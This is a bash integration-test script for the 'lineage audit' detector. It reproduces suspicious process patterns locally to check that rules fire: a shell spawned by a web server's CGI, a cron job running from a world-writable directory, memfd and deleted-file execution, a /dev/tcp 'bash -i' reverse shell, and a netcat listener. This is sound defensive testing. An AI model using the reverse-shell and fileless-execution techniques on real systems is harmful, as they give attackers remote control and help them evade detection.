#!/usr/bin/env bash
# Integration tests of `lineage audit` rules web-server-spawned-shell,
# exec-from-writable-dir, cron-runs-writable-script, reverse-shell and
# unexpected-listener against real reproductions started here:
#   - python3 -m http.server --cgi whose CGI script runs /bin/sh -c 'id; ...'
#     (and nginx with its workers, which must give nothing);
#   - a real cron job (/etc/cron.d) running a script in a world-writable
#     directory that starts a busy copy of `yes` placed there (and a normal
#     job in /usr/local/bin, which must give nothing);
#   - programs run from /dev/shm, from a deleted file and from a memfd;
#   - `bash -i` with its stdio on a TCP socket to a local listener (and a
#     tmux shell on a pty, which must give nothing);
#   - busybox nc -l started from a shell (and nginx listening: nothing).
# cron starts jobs at minute boundaries only: the job is queued first and
# checked last, the other cases run while it waits (at most about 60 s).
# Usage: audit_a.sh LINEAGE_BINARY. Exit 0 pass, 1 fail, 77 skip.
set -euo pipefail
LINEAGE=${1:?lineage binary}
PY=/usr/bin/python3

skip() { echo "SKIP: $*"; exit 77; }
[ "$(id -u)" = 0 ] || skip "needs root (a job in /etc/cron.d, nginx, files in /usr/local/bin)"
command -v jq >/dev/null || skip "jq is not installed"
[ -x "$PY" ] || skip "$PY is not installed"

work=$(mktemp -d /tmp/lineage-audit-a.XXXXXX)
chmod 755 "$work"
tag=lineage-audit-a-$$
started=()          # pids this test started; only these are stopped
cleanup_files=()    # files outside $work this test made
cleanup() {
  local pid
  for pid in "${started[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
  # The cron jobs end when their sleep does (job.sh then stops its busy copy).
  for f in "$work/w/sleep.pid" "$work/ok-sleep.pid" "$work/w/busy.pid"; do
    [ -s "$f" ] && kill -TERM "$(cat "$f")" 2>/dev/null || true
  done
  [ -n "${tmux_socket:-}" ] && tmux -L "$tmux_socket" kill-server 2>/dev/null || true
  sleep 0.2
  for pid in "${started[@]}"; do kill -KILL "$pid" 2>/dev/null || true; done
  rm -rf "${cleanup_files[@]}" "$work"
}
trap cleanup EXIT

fail() { echo "FAIL: $*" >&2; [ -f "$work/out.json" ] && jq -c '.findings[] | {rule, severity, pid, related_pid, title, evidence}' "$work/out.json" >&2; exit 1; }

ppid_of() { awk '{print $4}' "/proc/$1/stat"; }
# The newest child of $1 (named $3, if given), waiting up to $2 seconds.
child_of() {
  local deadline=$((SECONDS + ${2:-10})) pid
  while [ $SECONDS -lt $deadline ]; do
    pid=$(pgrep -n -P "$1" ${3:+-x "$3"}) && { echo "$pid"; return 0; }
    sleep 0.05
  done
  return 1
}
free_port() { "$PY" -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'; }
wait_port() {  # wait_port PORT: until something listens on 127.0.0.1:PORT
  for _ in $(seq 100); do
    "$PY" -c 'import socket,sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 1).close()' "$1" 2>/dev/null && return 0
    sleep 0.1
  done
  return 1
}

audit_json() {  # audit_json RULE...: lineage audit --rule RULE... --json into out.json
  local rc=0 args=()
  for r in "$@"; do args+=(--rule "$r"); done
  "$LINEAGE" audit "${args[@]}" --json > "$work/out.json" || rc=$?
  [ $rc -le 1 ] || fail "lineage audit ${args[*]} exited $rc"
  [ "$(jq -r .schema "$work/out.json")" = lineage.audit/v1 ] || fail "not a lineage.audit/v1 document"
}
# finding RULE PID: the finding of RULE about PID (compact JSON), or "".
finding() { jq -c --arg r "$1" --argjson p "$2" 'first(.findings[] | select(.rule == $r and .pid == $p)) // empty' "$work/out.json"; }
expect_finding() {  # expect_finding RULE PID SEVERITY: the finding, printed
  local f
  f=$(finding "$1" "$2")
  [ -n "$f" ] || fail "no $1 finding for pid $2"
  [ "$(jq -r .severity <<<"$f")" = "$3" ] || fail "$1 for pid $2: severity $(jq -r .severity <<<"$f"), expected $3"
  [ "$(jq -r '.chain | last | .pid' <<<"$f")" = "$2" ] || fail "$1 for pid $2: the chain does not end at it"
  echo "$f"
}
expect_none() {  # expect_none RULE PID WHAT
  [ -z "$(finding "$1" "$2")" ] || fail "$1 reported $3 (pid $2)"
}
has() {  # has JSON JQ_FILTER: the filter is true
  [ "$(jq -r "$2" <<<"$1")" = true ] || fail "expected $2 in $1"
}

# ---------------------------------------------------------------- cron (queued first)
cron_start() {
  [ -x /usr/sbin/cron ] || { echo "SKIP (part): cron is not installed"; return 1; }
  mkdir -m 0777 "$work/w"
  chmod 0777 "$work/w"   # world-writable, no sticky bit (mkdir -m is subject to nothing, chmod to be sure)
  cp /usr/bin/yes "$work/w/busy"
  cat > "$work/w/job.sh" <<EOF
#!/bin/sh
# lineage audit test job: a busy copy of yes, stopped after 90 s at most.
"$work/w/busy" > /dev/null &
busy=\$!
echo \$busy > "$work/w/busy.pid"
sleep 90 &
echo \$! > "$work/w/sleep.pid"
wait \$!
kill \$busy 2>/dev/null
EOF
  chmod 755 "$work/w/job.sh"
  ok_job=/usr/local/bin/$tag-ok
  printf '#!/bin/sh\nsleep 91 &\necho $! > %s/ok-sleep.pid\nwait $!\n' "$work" > "$ok_job"
  chmod 755 "$ok_job"
  cleanup_files+=("$ok_job" "/etc/cron.d/$tag")
  printf '# lineage audit integration test\nSHELL=/bin/sh\nMAILTO=""\n* * * * * root %s\n* * * * * root %s\n' \
    "$work/w/job.sh" "$ok_job" > "/etc/cron.d/$tag"
  chmod 644 "/etc/cron.d/$tag"
  # The daemon (argv cron), not a job's CRON child outliving a daemon now gone.
  if ! pgrep -f '^(/usr/sbin/)?cron( |$)' >/dev/null; then
    /usr/sbin/cron -f </dev/null >/dev/null 2>&1 &
    started+=($!)
  fi
  return 0
}

cron_check() {
  local busy="" job cronchild f deadline=$((SECONDS + 75)) ok
  while [ $SECONDS -lt $deadline ]; do
    [ -s "$work/w/busy.pid" ] && busy=$(cat "$work/w/busy.pid") && break
    sleep 0.5
  done
  [ -n "$busy" ] || fail "cron did not run the job within 75 s"
  rm -f "/etc/cron.d/$tag"   # once is enough
  sleep 0.3
  # busy < job.sh < (sh -c job.sh, unless the shell exec'd it) < cron's child
  job=$(ppid_of "$busy")
  cronchild=$(ppid_of "$job")
  [ "$(cat "/proc/$cronchild/comm")" = cron ] || { job=$cronchild; cronchild=$(ppid_of "$job"); }
  [ "$(cat "/proc/$cronchild/comm")" = cron ] || fail "no cron above the job $job"
  for _ in $(seq 50); do [ -s "$work/ok-sleep.pid" ] && break; sleep 0.1; done
  [ -s "$work/ok-sleep.pid" ] || fail "the normal cron job did not start"
  ok=$(ppid_of "$(ppid_of "$(cat "$work/ok-sleep.pid")")")  # sleep < script < sh -c (or cron)
  [ "$(cat "/proc/$ok/comm")" = cron ] && ok=$(ppid_of "$(cat "$work/ok-sleep.pid")")
  [ "$(cat "/proc/$(ppid_of "$ok")/comm")" = cron ] || fail "the normal job's parent is not cron"
  audit_json cron-runs-writable-script exec-from-writable-dir
  f=$(expect_finding cron-runs-writable-script "$job" high)
  has "$f" ".related_pid == $cronchild"
  has "$f" "[.chain[].pid] | index($cronchild) != null"
  has "$f" '.evidence | any(. == "command /bin/sh -c '"$work"'/w/job.sh")'
  has "$f" '.evidence | any(. == "directory '"$work"'/w is world-writable directory without sticky bit (mode 0777)")'
  has "$f" '.evidence | any(startswith("started by cron (pid '"$cronchild"')"))'
  expect_none cron-runs-writable-script "$ok" "a normal job in /usr/local/bin"
  f=$(expect_finding exec-from-writable-dir "$busy" high)
  has "$f" '.evidence | any(. == "exe '"$work"'/w/busy")'
  has "$f" '.evidence | any(. == "the executable is in /tmp")'
  has "$f" '.evidence | any(. == "started by cron (pid '"$cronchild"')")'
  has "$f" "[.chain[].pid] | (index($cronchild) != null and index($job) != null)"
  has "$f" '.title == "runs a file in /tmp (started by cron)"'
  kill "$busy" 2>/dev/null || true
  echo "cron: ok (job $job, busy $busy, cron $cronchild)"
}

# ---------------------------------------------------------------- web server
web_check() {
  local port server sh cgi sleeper f
  mkdir -p "$work/web/cgi-bin"
  cat > "$work/web/cgi-bin/run.py" <<'EOF'
#!/usr/bin/python3
# The request handler runs a command through a shell (command injection).
import subprocess, sys
sys.stdout.write("Content-Type: text/plain\r\n\r\n")
sys.stdout.flush()
subprocess.run(["/bin/sh", "-c", "id; sleep 20; true"])
EOF
  chmod 755 "$work/web/cgi-bin/run.py"
  port=$(free_port)
  (cd "$work/web" && exec setsid "$PY" -m http.server --cgi --bind 127.0.0.1 "$port" </dev/null >"$work/web.log" 2>&1) &
  server=$!
  started+=("$server")
  wait_port "$port" || fail "http.server did not listen on $port"
  setsid "$PY" -c 'import sys, urllib.request; urllib.request.urlopen(sys.argv[1], timeout=40).read()' \
    "http://127.0.0.1:$port/cgi-bin/run.py" </dev/null >/dev/null 2>&1 &
  started+=($!)
  cgi=$(child_of "$server" 10) || { cat "$work/web.log" >&2; fail "the CGI script did not start"; }
  sh=$(child_of "$cgi" 10 sh) || { cat "$work/web.log" >&2; fail "the CGI shell did not start"; }
  started+=("$sh")
  [ "$(tr '\0' ' ' < "/proc/$sh/cmdline")" = "/bin/sh -c id; sleep 20; true " ] || fail "pid $sh is not the CGI's shell"
  sleeper=$(child_of "$sh" 5 sleep) || fail "the CGI shell's sleep is not running"
  audit_json web-server-spawned-shell unexpected-listener
  f=$(expect_finding web-server-spawned-shell "$sh" high)
  has "$f" ".related_pid == $server"
  has "$f" "[.chain[].pid] | index($server) != null"
  has "$f" '.evidence | any(startswith("server pid '"$server"' runs /usr/bin/python3") and endswith(" -m http.server --cgi --bind 127.0.0.1 '"$port"'"))'
  has "$f" '.title == "a shell below the web server '"$(basename "$(readlink /proc/$server/exe)")"' (pid '"$server"')"'
  has "$f" '.evidence | any(. == "argv /bin/sh -c id; sleep 20; true")'
  expect_none web-server-spawned-shell "$cgi" "the CGI script (not a shell)"
  expect_none web-server-spawned-shell "$sleeper" "the shell's own command"
  expect_none unexpected-listener "$server" "http.server listening (a server)"
  echo "web server: ok (server $server, shell $sh)"
}

nginx_check() {
  command -v nginx >/dev/null || { echo "SKIP (part): nginx is not installed"; return 0; }
  local port master workers
  port=$(free_port)
  mkdir -p "$work/nginx/logs"
  cat > "$work/nginx/nginx.conf" <<EOF
worker_processes 2;
pid $work/nginx/nginx.pid;
error_log $work/nginx/logs/error.log;
events { worker_connections 64; }
http {
  access_log off;
  client_body_temp_path $work/nginx/body;
  proxy_temp_path $work/nginx/proxy;
  fastcgi_temp_path $work/nginx/fastcgi;
  uwsgi_temp_path $work/nginx/uwsgi;
  scgi_temp_path $work/nginx/scgi;
  server { listen 127.0.0.1:$port; root $work/nginx; }
}
EOF
  nginx -p "$work/nginx" -c "$work/nginx/nginx.conf" -g 'daemon off;' </dev/null >/dev/null 2>&1 &
  master=$!
  started+=("$master")
  wait_port "$port" || fail "nginx did not listen on $port"
  workers=$(pgrep -P "$master" | tr '\n' ' ')
  [ -n "$workers" ] || fail "nginx has no workers"
  audit_json web-server-spawned-shell unexpected-listener
  for pid in $master $workers; do
    expect_none web-server-spawned-shell "$pid" "nginx or its worker"
    expect_none unexpected-listener "$pid" "nginx listening"
  done
  echo "nginx: ok (no finding for master $master, workers $workers)"
}

# ---------------------------------------------------------------- exec from writable places
exec_check() {
  local shm del memfd hidden f
  cp /bin/sleep "/dev/shm/$tag"
  cleanup_files+=("/dev/shm/$tag")
  "/dev/shm/$tag" 60 </dev/null >/dev/null 2>&1 &
  shm=$!
  started+=("$shm")
  deldir=$(mktemp -d /var/lib/lineage-audit-a.XXXXXX)
  cleanup_files+=("$deldir")
  cp /bin/sleep "$deldir/sleepy"
  "$deldir/sleepy" 60 </dev/null >/dev/null 2>&1 &
  del=$!
  started+=("$del")
  "$PY" -c 'import os
fd = os.memfd_create("lineage-audit", 0)
with open("/bin/sleep", "rb") as f: os.write(fd, f.read())
os.execv("/proc/self/fd/%d" % fd, ["memsleep", "60"])' </dev/null >/dev/null 2>&1 &
  memfd=$!
  started+=("$memfd")
  for _ in $(seq 50); do
    [ "$(readlink "/proc/$memfd/exe" 2>/dev/null)" = "/memfd:lineage-audit (deleted)" ] && [ -n "$(readlink "/proc/$del/exe")" ] && break
    sleep 0.1
  done
  rm -f "$deldir/sleepy"
  [ "$(readlink "/proc/$del/exe")" = "$deldir/sleepy (deleted)" ] || fail "the deleted program's exe is $(readlink "/proc/$del/exe")"
  audit_json exec-from-writable-dir
  f=$(expect_finding exec-from-writable-dir "$shm" medium)
  has "$f" '.evidence | any(. == "the executable is in /dev/shm")'
  has "$f" "[.chain[].pid] | index($$) != null"
  f=$(expect_finding exec-from-writable-dir "$del" medium)
  has "$f" '.evidence | any(. == "exe '"$deldir"'/sleepy (deleted)")'
  has "$f" '.evidence | any(. == "the executable was deleted after it started")'
  f=$(expect_finding exec-from-writable-dir "$memfd" medium)
  has "$f" '.evidence | any(. == "exe /memfd:lineage-audit (deleted)")'
  has "$f" '.title == "runs a memfd"'
  expect_none exec-from-writable-dir $$ "this test's bash"
  echo "exec: ok (/dev/shm $shm, deleted $del, memfd $memfd)"
}

# ---------------------------------------------------------------- reverse shell
reverse_check() {
  local port listener shell pane f
  "$PY" -c 'import socket, sys, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1])); __import__("os").rename(sys.argv[1] + ".tmp", sys.argv[1])
c, _ = s.accept(); time.sleep(60)' "$work/rs.port" </dev/null >/dev/null 2>&1 &
  listener=$!
  started+=("$listener")
  for _ in $(seq 50); do [ -s "$work/rs.port" ] && break; sleep 0.1; done
  port=$(cat "$work/rs.port")
  # setsid: no controlling terminal for bash -i to take; exec keeps the pid.
  setsid bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$port"'; exec bash -i <&3 >&3 2>&3' </dev/null >/dev/null 2>&1 &
  shell=$!
  started+=("$shell")
  for _ in $(seq 50); do
    [ "$(tr '\0' ' ' < "/proc/$shell/cmdline" 2>/dev/null)" = "bash -i " ] && break
    sleep 0.1
  done
  [ "$(tr '\0' ' ' < "/proc/$shell/cmdline")" = "bash -i " ] || fail "bash -i did not start on the socket"
  pane=""
  if command -v tmux >/dev/null; then
    tmux_socket=$tag
    tmux -L "$tmux_socket" -f /dev/null new-session -d -s audit "bash --norc" </dev/null >/dev/null 2>&1
    pane=$(tmux -L "$tmux_socket" list-panes -F '#{pane_pid}')
  fi
  audit_json reverse-shell
  f=$(expect_finding reverse-shell "$shell" critical)
  has "$f" '.evidence | any(test("^fd 0 socket tcp 127\\.0\\.0\\.1:[0-9]+ -> 127\\.0\\.0\\.1:'"$port"' \\(ESTABLISHED\\)$"))'
  has "$f" '.evidence | any(startswith("fd 2 socket tcp"))'
  has "$f" '.title == "stdin, stdout and stderr are a TCP socket to 127.0.0.1:'"$port"'"'
  expect_none reverse-shell "$listener" "the listener (stdio not a socket)"
  [ -z "$pane" ] || expect_none reverse-shell "$pane" "a tmux shell on a pty"
  echo "reverse shell: ok (shell $shell -> port $port${pane:+, tmux pane $pane: nothing})"
}

# ---------------------------------------------------------------- listener
listener_check() {
  command -v busybox >/dev/null || { echo "SKIP (part): busybox is not installed"; return 0; }
  local port sh nc f
  port=$(free_port)
  bash -c 'busybox nc -l -p '"$port"' </dev/null >/dev/null; true' </dev/null >/dev/null 2>&1 &
  sh=$!
  started+=("$sh")
  nc=$(child_of "$sh" 5) || fail "busybox nc did not start"
  started+=("$nc")
  # Not a connection (it would end nc -l): ss tells when it listens.
  for _ in $(seq 50); do ss -Hltn "sport = :$port" | grep -q . && break; sleep 0.1; done
  audit_json unexpected-listener
  f=$(expect_finding unexpected-listener "$nc" high)
  has "$f" '.evidence | any(test("^listening tcp6? .*:'"$port"'$"))'
  has "$f" '.title | test("^a netcat-like tool listening on tcp6? .*:'"$port"'$")'
  has "$f" "[.chain[].pid] | index($sh) != null"
  expect_none unexpected-listener "$sh" "the shell that started nc"
  echo "listener: ok (busybox nc $nc on $port)"
}

# ONLY="web_check" (or "cron_start; cron_check"): run some parts alone, by hand.
[ -n "${ONLY:-}" ] && { eval "$ONLY"; echo PASS; exit 0; }
cron_queued=0
cron_start && cron_queued=1
web_check
nginx_check
exec_check
reverse_check
listener_check
[ $cron_queued = 1 ] && cron_check
echo "PASS"
